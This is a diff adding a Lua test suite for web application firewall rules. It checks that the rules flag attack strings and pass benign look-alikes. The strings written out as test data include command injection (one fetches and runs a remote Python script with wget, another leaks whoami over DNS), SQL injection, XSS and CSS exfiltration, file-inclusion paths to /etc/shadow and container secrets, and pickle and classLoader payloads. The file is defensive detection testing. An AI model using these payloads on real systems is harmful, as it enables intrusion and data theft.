@@ -1,0 +1,84 @@
+local rule_checks = require "rule_checks"
+
+-- The sixteenth to twentieth blind sets and the API power users' benign set
+-- (tests/edge_security/family_gen_blind_{sixteenth..twentieth}.py, benign_api_power_gen.py): the families
+-- they found uncovered and the values our rules misread, value by value (our own spellings, not the sets').
+describe("edge.waf.rules sixteenth to twentieth blind sets", function()
+    local caught_by, clean
+
+    setup(function()
+        caught_by, clean = rule_checks.new(assert)
+    end)
+
+    it("132250: an option injected where an argument was expected", function()
+        caught_by(132250, { "--config=/tmp/x.conf example.org", "-o /etc/cron.hourly/job http://x.example/j",
+            "--upload-pack=touch${IFS}/tmp/p", "-oProxyCommand=sh -c id x", "--post-invoke=id -i a.deb",
+            "-e robots=off -e https_proxy=x.example:3128 http://10.1.2.3/", "-T ~/.ssh/evil host" })
+        clean({ "-updated_at,name", "-1", "-- thanks!", "-20% off everything", "- buy milk\n- call Bob" })
+    end)
+
+    it("RCE: ps's idiom, a command closed by a parenthesis, brace lists, cmd.exe delimiters, waitfor", function()
+        caught_by(132105, { "10.1.1.1|ps -ef", "a&&ps auxww", "x|(id)", "host; (id)" })
+        caught_by(132110, { "&{,cat,/etc/hosts}", "|{,ls,-la}", "& cmd;/c;ver", "x|cmd=/k dir",
+            "; wget -qO- http://198.51.100.2/x.py | python3" })
+        caught_by(132140, { "& waitfor /t 5 nothing", "|waitfor /si go" })
+        caught_by(132160, { "$(`hostname`.x.example)", "a; nslookup `whoami`.oob.example" })
+        clean({ "tea; (see notes)", "menu {soup, salad}", "python 3.12 | pip 24", "php 8.3 & composer 2",
+            "timeout = \"30s\"", "x\n  id\n  name\n", "query { user {\n    id\n    email\n  }\n}",
+            "jQuery's $(document).ready and $(window).on('load')", "ps: see attached" })
+    end)
+
+    it("what the narrower line-break and comment readings no longer catch by accident: text pickles, NODE_OPTIONS", function()
+        caught_by(132220, { "csubprocess\ncheck_output\n(S'id'\ntR.", "(cnt\nsystem\n(S'dir'\ntR." })
+        caught_by(135100, { "NODE_OPTIONS=--require /dev/shm/x.js", "{\"NODE_OPTIONS\": \"--import=data:text/javascript,x\"}" })
+        clean({ "NODE_OPTIONS=--max-old-space-size=4096", "cos\nsin\ntan" })
+    end)
+
+    it("LFI and PHP: /./ segments, container secrets, ini extension paths, dir()", function()
+        caught_by(130110, { "/./etc/././shadow", "/run/secrets/api_token", "run/secrets/x" })
+        caught_by(133130, { "zend_extension=/var/tmp/x.so", "extension = C:\\temp\\evil.dll" })
+        caught_by(133110, { "$h=dir(\"/var/www\");", "print_r(dir('.'))" })
+        clean({ "https://github.com/php/php-src/blob/master/php.ini-development", "extension=intl",
+            "we run in /run and /secrets", "print(dir(obj))" })
+    end)
+
+    it("RFI: a trailing & cuts the suffix; a parameter smuggled into a value", function()
+        caught_by(131110, { "http://198.51.100.9/sh.txt&", "//x.example/a.inc&",
+            "main&file=http://x.example/s.txt#", "en&lang=ftp://x.example/l.php" })
+        clean({ "https://example.com/search?q=a&b=c&", "tea&coffee=https://example.com/menu",
+            "https://example.com/docs/a.pdf" })
+    end)
+
+    it("SQL: one column FROM a table WHERE ... then a comment; a number INTO variables", function()
+        caught_by(142270, { "name FROM accounts WHERE 1=1-- -", "`pw` from users where id>0#" })
+        caught_by(142260, { "1 INTO @x", "5,10 into @a,@b,@c" })
+        clean({ "tickets from customers where it hurts", "10 into the box", "email me at ann@example.com" })
+    end)
+
+    it("SQL: search and filter languages are not boolean SQL", function()
+        clean({ "email:\"a@example.com\" || name:\"Ann\"", "title:\"api down\" AND NOT status:closed",
+            "state=in=(open,new) and owner==me", "region/name eq 'emea' or region/code eq 'x'",
+            "| Admin | matches `actor` and `target` |\n| API | x |", "\"$ref\": \"#/components/schemas/User\"",
+            "args: [\"--since\", \"P7D\"]" })
+        caught_by(142240, { "' || 'x'='x", "x\" || \"1\"=\"1", "' or a/1--" })
+        caught_by(142100, { "' and not 1=1--", "') and not exists(select 1)--" })
+        caught_by(142180, { "admin'--", "x' -- -", "'#" })
+    end)
+
+    it("XSS: keyword operators after a string, CSS selector exfiltration, opener, dangling markup, id twins", function()
+        caught_by(141180, { "\"typeof alert(1)//", "'instanceof eval(name)'" })
+        caught_by(141160, { "a[href^=https]{background:url(//x.example/l)}", "input[value$=z] {list-style:url(//x/z)}" })
+        caught_by(141140, { "top.location='//x.example'", "parent.location.href=name", "alert()//" })
+        caught_by(141150, { "<img src='//x.example/log?", "<form action=\"https://x.example/c" })
+        caught_by(141200, { "<a id=cfg></a><a id=cfg name=url href=//x.example>" })
+        clean({ "alert() blocks the main thread", "CSS expression() is gone since IE8",
+            "input[type=email] is styled in forms.css", "window.top is the outermost frame" })
+    end)
+
+    it("Java and templates: bracketed class.module.classLoader, remote JDBC resources, Smarty comments", function()
+        caught_by(144100, { "class[module][classLoader][URLs][0]=http://x.example/", "class.classLoader.x=1" })
+        caught_by(144160, { "jdbc:sqlite::resource:https://x.example/a.db", "jdbc:derby:jar:(http://x.example/d.jar)x" })
+        caught_by(134130, { "{*x*}", "a{* smarty *}b" })
+        clean({ "jdbc:postgresql://db:5432/app", "{*.js,*.ts}", "5 * 3 = 15" })
+    end)
+end)
